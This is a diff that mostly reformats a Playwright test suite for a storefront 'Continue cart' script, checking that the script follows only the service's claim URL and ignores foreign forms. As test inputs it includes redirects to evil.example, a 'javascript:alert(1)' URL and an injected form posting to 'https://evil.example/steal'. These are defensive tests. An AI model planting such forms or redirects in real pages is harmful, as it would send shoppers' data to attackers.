@@ -34,13 +34,21 @@ beforeAll(async () => {
 /** The cart page with one line; the app proxy's answer to the script replaced by `answer`; every request noted. */
 async function cartPage(answer: Record<string, unknown>) {
   const context = await newContext(h.browser);
-  await routeStorefront(context, { appUrl: h.app.url, customerId: null, cart: { state: { token: `tok-${randomUUID()}`, items: [{ variant_id: MUG, quantity: 1 }] }, catalog } });
+  await routeStorefront(context, {
+    appUrl: h.app.url,
+    customerId: null,
+    cart: { state: { token: `tok-${randomUUID()}`, items: [{ variant_id: MUG, quantity: 1 }] }, catalog },
+  });
   const page = await context.newPage();
   const requests: Request[] = [];
   page.on("request", (r) => requests.push(r));
-  await page.route(`https://${TEST_SHOP}/apps/workspace/cart`, (route) => route.fulfill({ contentType: "application/json", body: JSON.stringify(answer) }));
+  await page.route(`https://${TEST_SHOP}/apps/workspace/cart`, (route) =>
+    route.fulfill({ contentType: "application/json", body: JSON.stringify(answer) }),
+  );
   for (const origin of [SERVICE, "http://service.example", "https://evil.example"]) {
-    await page.route(`${origin}/**`, (route) => route.fulfill({ contentType: "text/html", body: `<h1 data-landed>${origin}</h1>` }));
+    await page.route(`${origin}/**`, (route) =>
+      route.fulfill({ contentType: "text/html", body: `<h1 data-landed>${origin}</h1>` }),
+    );
   }
   await page.goto(`https://${TEST_SHOP}/cart`);
   await page.waitForFunction(() => "__continueCart" in window);
@@ -61,7 +69,10 @@ describe("the Continue cart script follows only the service's claim URL", () => 
   });
 
   it.each([
-    ["http on a public host", { claim_url: "http://service.example/claim/1", service_origin: "http://service.example" }],
+    [
+      "http on a public host",
+      { claim_url: "http://service.example/claim/1", service_origin: "http://service.example" },
+    ],
     ["another origin", { claim_url: "https://evil.example/claim/1", service_origin: SERVICE }],
     ["no service origin named", { claim_url: `${SERVICE}/claim/1` }],
     ["a javascript: address", { claim_url: "javascript:alert(1)", service_origin: SERVICE }],
@@ -73,7 +84,9 @@ describe("the Continue cart script follows only the service's claim URL", () => 
       await message(s.page).waitFor({ state: "visible" });
       expect(await message(s.page).textContent()).toBe(ERROR);
       expect(s.page.url()).toBe(`https://${TEST_SHOP}/cart`);
-      expect(s.requests.filter((r) => r.isNavigationRequest() && !r.url().startsWith(`https://${TEST_SHOP}/`))).toEqual([]);
+      expect(s.requests.filter((r) => r.isNavigationRequest() && !r.url().startsWith(`https://${TEST_SHOP}/`))).toEqual(
+        [],
+      );
       expect(await s.page.getByRole("button", { name: "Continue cart" }).isEnabled()).toBe(true);
     } finally {
       await s.close();
@@ -83,10 +96,20 @@ describe("the Continue cart script follows only the service's claim URL", () => 
 
 describe("the Continue cart script acts only on its own block's form", () => {
   it.each([
-    ["outside any block, posting to the proxy", `<form data-continue-cart="x" action="/apps/workspace/cart" method="post"><button id="foreign">Go</button></form>`],
-    ["in a look-alike block, posting elsewhere", `<div data-continue-cart-block="y"><form data-continue-cart="y" action="https://evil.example/steal" method="post"><button id="foreign">Go</button></form></div>`],
+    [
+      "outside any block, posting to the proxy",
+      `<form data-continue-cart="x" action="/apps/workspace/cart" method="post"><button id="foreign">Go</button></form>`,
+    ],
+    [
+      "in a look-alike block, posting elsewhere",
+      `<div data-continue-cart-block="y"><form data-continue-cart="y" action="https://evil.example/steal" method="post"><button id="foreign">Go</button></form></div>`,
+    ],
   ])("a form[data-continue-cart] %s is left to the browser (no cart read, no JSON post)", async (_name, html) => {
-    const s = await cartPage({ ok: true, claim_url: "https://evil.example/claim/1", service_origin: "https://evil.example" });
+    const s = await cartPage({
+      ok: true,
+      claim_url: "https://evil.example/claim/1",
+      service_origin: "https://evil.example",
+    });
     try {
       await s.page.evaluate((markup) => document.querySelector("main")!.insertAdjacentHTML("beforeend", markup), html);
       const before = s.requests.length;
@@ -120,7 +143,15 @@ describe("the server hands the storefront only a claim URL on the service's orig
   it("refuses a claim URL the service answers on another origin (failed, plain words, nothing to follow)", async () => {
     // The same emulator reached as localhost: it answers claim URLs on 127.0.0.1, another origin.
     const other = h.emulator.url.replace("127.0.0.1", "localhost");
-    expect((await saveSettings(h.db.prisma, TEST_SHOP, emulatorSettings(h.emulator.url, { sandboxBaseUrl: other, baseUrl: other }))).ok).toBe(true);
+    expect(
+      (
+        await saveSettings(
+          h.db.prisma,
+          TEST_SHOP,
+          emulatorSettings(h.emulator.url, { sandboxBaseUrl: other, baseUrl: other }),
+        )
+      ).ok,
+    ).toBe(true);
     try {
       const response = await post();
       const body = (await response.json()) as Record<string, unknown>;
